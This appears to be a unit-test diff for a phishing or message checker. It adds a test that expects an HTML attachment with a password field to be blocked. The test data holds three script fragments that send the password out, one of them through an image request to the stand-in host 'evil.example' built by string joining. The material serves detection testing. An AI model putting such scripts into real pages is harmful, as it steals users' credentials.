@@ -339,6 +339,25 @@ TEST_F(MessageCheckerTest, DeeplyNestedMarkupIsReadInTime) {
   EXPECT_THAT(check.notes, Contains(HasSubstr("nested deeper than 1024")));
 }
 
+// A file that asks for a password and hides where it goes blocks as one
+// that names it: the script is how the password leaves.
+TEST_F(MessageCheckerTest, AnAttachmentHidingWhereThePasswordGoesBlocks) {
+  for (const std::string script :
+       {"document.forms[0].setAttribute('action', u);",
+        "new Image().src = u + '?p=' + document.forms[0].pw.value;",
+        "var u = ['https:', '', 'evil.example', 'p.php'].join('/');"}) {
+    SCOPED_TRACE(script);
+    const MessageCheck check = Check(MessageWithPage(
+        "<html><body><form><input name=user><input type=password name=pw>"
+        "<button>Sign in</button></form><script>var u = 'x';" +
+        script + "</script></body></html>"));
+    const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
+    ASSERT_NE(form, nullptr);
+    EXPECT_GE(form->weight, 0.85);
+    EXPECT_EQ(check.verdict.action, Action::kBlock);
+  }
+}
+
 // A page that decodes itself past max_decode_depth is not answered as if
 // it had been read whole.
 TEST_F(MessageCheckerTest, DecodingStoppedAtALimitDegrades) {
